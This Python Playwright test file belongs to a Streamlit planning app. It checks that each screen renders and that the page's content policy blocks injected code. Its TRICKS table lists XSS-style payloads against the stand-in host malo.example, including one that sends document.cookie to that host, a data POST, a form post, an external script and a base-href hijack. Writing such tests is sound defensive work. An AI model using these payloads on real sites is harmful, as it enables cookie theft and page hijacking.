"""What pages may load and do: everything that the screens need, and nothing else."""

from functools import partial

import pytest
from playwright.sync_api import Browser, Route, expect
from sqlalchemy import Engine

from planner.services.actor import LOCAL_ADMINISTRATOR
from planner.services.answers.client_answers import ClientAnswers
from planner.services.answers.receiving import Arrival, receive
from planner.services.cycle.examples import load_example
from planner.services.survey.versions import issue_version
from planner.services.waves.waves import form_of_wave, open_wave
from planner.store.transaction import transaction
from planner.vocabulary import Road
from tests.browser.conftest import FORBIDDEN, TELL_FORBIDDEN, Opener

CHART, COMPONENT = ".js-plotly-plot svg.main-svg", "[data-testid^=stBidiComponent]"
SCREENS = {
    "momentos": (CHART, COMPONENT),
    "momentos?vista=proyector": ("img.projection",),
    "requerimientos": (COMPONENT,),
    "acciones": (),
    "prioridad": (COMPONENT,),
    "historial": (),
    "guia": (),
    "respuestas": (COMPONENT,),
    "resultados": (CHART,),
    "encuesta": (),
}
VIEWS = {
    "acciones": ("Calendario", CHART),
    "prioridad": ("Impacto y esfuerzo", CHART),
    "encuesta": ("Vista previa", "[data-testid=stImage] img"),
}
TRICKS = {
    "a script in the page": "document.body.append(Object.assign(document.createElement('script'), {text: 'won = 1'}))",
    "an attribute that runs": "document.body.innerHTML = '<img src=x onerror=\"won = 1\">'",
    "a text that becomes a script": "try { won = eval('1') } catch {}",
    "a script of another site": """document.body.append(
        Object.assign(document.createElement('script'), {src: '//malo.example/a.js'}))""",
    "a picture that tells another site": "new Image().src = 'https://malo.example/?' + document.cookie",
    "data sent to another site": "fetch('https://malo.example/', {method: 'POST', body: 'datos'}).catch(() => 0)",
    "a form sent to another site": """document.body.innerHTML = '<form method=post action=https://malo.example/>';
        document.forms[0].submit()""",
    "a frame of another site": "document.body.innerHTML = '<iframe src=https://malo.example/>'",
    "another root for all addresses": "document.head.innerHTML = '<base href=https://malo.example/>'",
}


@pytest.fixture
def example(stored: Engine) -> int:
    """The id of a whole cycle, whose survey ten clients have answered."""
    with transaction(stored) as session:
        cycle = load_example("microcredito-individual", session=session, actor=LOCAL_ADMINISTRATOR)
        issue_version(cycle.id, session=session, actor=LOCAL_ADMINISTRATOR)
        wave = open_wave(cycle.id, {}, session=session, actor=LOCAL_ADMINISTRATOR)
        form = form_of_wave(wave, session=session)
        given = ClientAnswers({item.id: 4 for item in form.items if len(item.options) == 5})
        for number in range(10):
            receive(wave, form, given, Arrival(Road.WEB, f"page:{number}"), session=session)
        return cycle.id


def test_the_screens_show_all_they_have_without_being_forbidden_anything(new_page: Opener, example: int) -> None:
    page = new_page()
    for screen, parts in SCREENS.items():
        page.goto(f"/{screen}{'&' if '?' in screen else '?'}ciclo={example}")
        for part in parts:
            expect(page.locator(part).first).to_be_visible()
        expect(page.locator("[data-testid=stApp][data-test-script-state=notRunning]")).to_be_visible()
        if screen in VIEWS:
            view, part = VIEWS[screen]
            page.get_by_role("radio", name=view).click()
            expect(page.locator(part).first).to_be_visible()
    page.get_by_role("button", name="Descargar").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Matriz en Excel").click()
    assert download.value.path().read_bytes().startswith(b"PK")


@pytest.mark.usefixtures("stored")
def test_what_slips_into_a_page_gets_nowhere(browser: Browser, server: str) -> None:
    reached: list[str] = []
    context = browser.new_context(base_url=server)
    context.add_init_script(TELL_FORBIDDEN)
    context.route("**malo.example/**", partial(_note, reached))
    page = context.new_page()
    page.goto("/guia")
    expect(page.get_by_role("heading").first).to_be_visible()
    for trick, attempt in TRICKS.items():
        with page.expect_console_message(lambda message: FORBIDDEN in message.text):
            page.evaluate(f"setTimeout(() => {{ {attempt} }})")  # as the page itself would run it
        assert page.evaluate("typeof won") == "undefined", trick
        assert reached == [], trick
    context.close()


def _note(reached: list[str], route: Route) -> None:
    reached.append(route.request.url)
    route.abort()
